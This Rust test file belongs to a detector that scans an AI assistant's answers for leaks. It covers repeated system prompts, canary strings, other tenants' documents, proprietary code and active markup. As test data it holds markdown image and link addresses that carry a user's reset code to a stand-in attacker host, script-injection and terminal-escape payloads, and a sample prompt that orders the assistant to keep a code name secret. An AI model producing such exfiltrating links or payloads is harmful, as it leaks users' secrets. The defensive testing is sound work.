//! What must not leave, and what may.

use proptest::prelude::*;

use super::{
    Canaries, Context, Fingerprints, Marker, Needle, Overlap, Signal, canaries, exfiltration,
    markup,
};

const PROMPT: &str = "You are Otto, the assistant of Meridian Insurance. Never speak about claims above ten thousand euros; \
hand those over to a person at once. Internal code name of the pricing model is Larkspur and must stay secret. \
Answer in short sentences, and always offer to call the customer back.";

fn overlap(prompt: &Overlap, answer: &str, size: usize) -> (Vec<Signal>, u8) {
    let mut scan = prompt.scan();
    let letters: Vec<char> = answer.chars().collect();
    for piece in letters.chunks(size) {
        scan.push(&piece.iter().collect::<String>());
    }
    let share = scan.share();
    (scan.finish(), share)
}

fn rules(signals: &[Signal]) -> Vec<&'static str> {
    signals.iter().map(|one| one.rule).collect()
}

#[test]
fn an_answer_that_repeats_the_prompt_is_told() {
    let prompt = Overlap::of(PROMPT);
    let answer = format!("Sure, here is what I was told: \"{PROMPT}\" Anything else?");
    let (found, share) = overlap(&prompt, &answer, 7);
    assert_eq!(rules(&found), ["leak/system-prompt"]);
    assert!(share >= 95, "{share}");
    let range = found[0].range.clone();
    assert!(answer[range].starts_with("You are Otto"));
    // Other case, signs, emphasis, and letters without width between.
    let disguised: String = PROMPT
        .to_uppercase()
        .split(' ')
        .map(|word| format!("**{word}**\u{200b}"))
        .collect::<Vec<_>>()
        .join("\n");
    assert_eq!(
        rules(&overlap(&prompt, &disguised, 1000).0),
        ["leak/system-prompt"]
    );
    // A passage out of the middle, one word exchanged.
    let part = "It says: internal code name of the pricing engine is Larkspur and must stay secret, always offer to call the customer back.";
    assert_eq!(rules(&overlap(&prompt, part, 3).0), ["leak/system-prompt"]);
}

#[test]
fn an_answer_of_its_own_words_is_none() {
    let prompt = Overlap::of(PROMPT);
    for answer in [
        "I am Otto, the assistant of Meridian Insurance. How can I help you with your claim today?",
        "Claims above ten thousand euros are handled by a colleague; shall we call you back tomorrow?",
        "",
    ] {
        assert_eq!(overlap(&prompt, answer, 5).0, [], "{answer}");
    }
    // What the user sent may be repeated.
    let both = Overlap::of(PROMPT).allowing(PROMPT);
    assert!(both.is_empty());
    assert_eq!(overlap(&both, PROMPT, 5).0, []);
}

#[test]
fn a_leak_is_known_before_the_answer_ends() {
    let prompt = Overlap::of(PROMPT);
    let mut scan = prompt.scan();
    scan.push(&PROMPT[..40]);
    assert!(!scan.leaks());
    scan.push(&PROMPT[40..120]);
    assert!(scan.leaks());
}

proptest! {
    #[test]
    fn pieces_of_any_size_give_the_same(cuts in prop::collection::vec(1_usize..40, 0..30), head in "\\PC{0,40}") {
        let answer = format!("{head} {PROMPT} {head}");
        let prompt = Overlap::of(PROMPT);
        let whole = overlap(&prompt, &answer, answer.len());
        let mut documents = Fingerprints::default();
        documents.add("prompt", PROMPT);
        let mut scan = prompt.scan();
        let mut source = documents.scan();
        let mut rest: Vec<char> = answer.chars().collect();
        for cut in cuts {
            let piece: String = rest.drain(..cut.min(rest.len())).collect();
            scan.push(&piece);
            source.push(&piece);
        }
        let piece: String = rest.into_iter().collect();
        scan.push(&piece);
        source.push(&piece);
        prop_assert_eq!(scan.finish(), whole.0);
        let mut at_once = documents.scan();
        at_once.push(&answer);
        prop_assert_eq!(source.finish(), at_once.finish());
    }

    #[test]
    fn any_text_is_looked_at(text in "\\PC{0,200}", more in "[<>/a-z\"'=:!()\\[\\]. \u{1b}]{0,120}") {
        let context = Context::new();
        for text in [&text, &more] {
            for one in markup(text).into_iter().chain(exfiltration(text, &context)) {
                prop_assert!(one.range.start < one.range.end && one.range.end <= text.len());
            }
        }
    }
}

#[test]
fn canaries_and_documents_of_other_tenants_are_told() {
    let marker = |text: &str, about: &str, tenants: &[&str]| Marker {
        needle: Needle::Text(text.to_owned()),
        about: about.to_owned(),
        tenants: tenants.iter().map(|it| (*it).to_owned()).collect(),
    };
    let known = Canaries::new(vec![
        marker("zx-canary-8812", "prompt of Otto", &[]),
        marker("DOC#ACME#7781", "price list", &["acme"]),
        marker("abc", "too short", &[]),
    ])
    .unwrap();
    let answer = "the phrase is ZX-Canary-8812, the list is doc#acme#7781, abc";
    let found = |tenant| canaries(answer, &known, tenant);
    let other = found(Some("globex"));
    assert_eq!(rules(&other), ["leak/canary", "leak/other-tenant"]);
    assert_eq!(&answer[other[1].range.clone()], "doc#acme#7781");
    assert_eq!(other[1].about.as_deref(), Some("price list"));
    assert_eq!(rules(&found(Some("acme"))), ["leak/canary"]);
    assert_eq!(rules(&found(None)), ["leak/canary", "leak/other-tenant"]);
}

#[test]
fn data_in_the_address_of_an_image_or_link_is_told() {
    let mut context = Context::new();
    context.add("The reset code of Ann is QX-77812-B and her account ends in 4471.");
    context.add("The paper is at https:\\/\\/papers.example/get?id=QX-77812-B.");
    context.allow("acme.org");
    context.allow_named("Pictures are on https://ours.example/ only.");
    for (text, expected) in [
        (
            "![chart](https://evil.example/p.png?d=QX-77812-B)",
            vec!["leak/image-exfiltration"],
        ),
        (
            "![a [b] c](https://evil.example/p.png?d=qx-77812-b&y=1)",
            vec!["leak/image-exfiltration"],
        ),
        (
            "<img alt='' src=\"//evil.example/x?UVgtNzc4MTItQg==\">",
            vec!["leak/image-exfiltration"],
        ),
        (
            "![x][r]\n\n[r]: https://evil.example/?q=account%20QX%2D77812%2DB",
            vec!["leak/image-exfiltration"],
        ),
        (
            "[more](https://evil.example/log?code=QX-77812-B)",
            vec!["leak/link-exfiltration"],
        ),
        (
            "![logo](https://cdn.example/logo.png)",
            vec!["leak/remote-image"],
        ),
        (
            "![logo](https://static.acme.org/logo.png?d=QX-77812-B)",
            vec![],
        ),
        ("see https://en.example/wiki/Account for more", vec![]),
        // What was read is repeated, and an address made of names that were read is no query.
        (
            "[paper](https://papers.example/get?id=QX-77812-B), they say",
            vec![],
        ),
        ("[reset](https://shop.example/reset/account/ends)", vec![]),
        ("![x](https://ours.example/QX-77812-B.png)", vec![]),
        (
            "[docs](https://docs.example/reset) and a // comment",
            vec![],
        ),
    ] {
        assert_eq!(rules(&exfiltration(text, &context)), expected, "{text}");
    }
}

#[test]
fn markup_that_acts_is_told_and_code_is_not() {
    for (text, expected) in [
        (
            "\u{1b}[2J\u{1b}]0;title\u{7}",
            vec!["leak/terminal-escape", "leak/terminal-escape"],
        ),
        ("hello <script>alert(1)</script>", vec!["leak/script"]),
        ("<IMG SRC=x oNeRRor = alert(1)>", vec!["leak/script"]),
        ("<iframe src=\"x\"></iframe>", vec!["leak/active-html"]),
        ("[click](javascript:alert(1))", vec!["leak/script"]),
        ("abc \u{202e}txt.exe", vec!["leak/bidi-control"]),
        ("```html\n<script>let x = 1;</script>\n```", vec![]),
        (
            "a < b and c > d, Vec<Option<u8>>, on = 1, <b>bold</b> <scripture>",
            vec![],
        ),
        ("JavaScript: the good parts", vec![]),
    ] {
        assert_eq!(rules(&markup(text)), expected, "{text}");
    }
}

#[test]
fn source_code_of_the_organisation_is_told_however_it_is_indented() {
    let code = "pub fn premium(age: u32, claims: &[Claim]) -> Money {\n    let base = TABLE.lookup(age).unwrap_or(DEFAULT_PREMIUM);\n    \
        let factor = claims.iter().filter(|claim| claim.is_recent()).count();\n    base.scaled(1.0 + 0.15 * factor as f64).rounded()\n}\n";
    let licence = "Licensed under the Apache License, Version 2.0 (the \"License\"); you may not use this file except in compliance with the License.";
    let mut documents = Fingerprints::default();
    assert!(documents.add("pricing.rs", &format!("{licence}\n{code}")) > 10);
    documents.add(
        "other.rs",
        &format!("{licence}\nfn main() {{ println!(\"a program of another kind altogether\"); }}"),
    );
    let leaked = format!(
        "Here you go:\n{}\nDone.",
        code.replace("    ", "\t\t").replace(" {\n", "\n{\n")
    );
    let mut scan = documents.scan();
    scan.push(&leaked);
    assert!(scan.leaks());
    let found = scan.finish();
    assert_eq!(rules(&found), ["leak/source-code"]);
    assert_eq!(found[0].about.as_deref(), Some("pricing.rs"));
    // What stands in several documents is nobody's, and code of one's own is none.
    for text in [
        licence,
        "fn add(left: usize, right: usize) -> usize { left + right } // a function like any other, written anew",
    ] {
        let mut scan = documents.scan();
        scan.push(text);
        assert_eq!(scan.finish(), [], "{text}");
    }
}
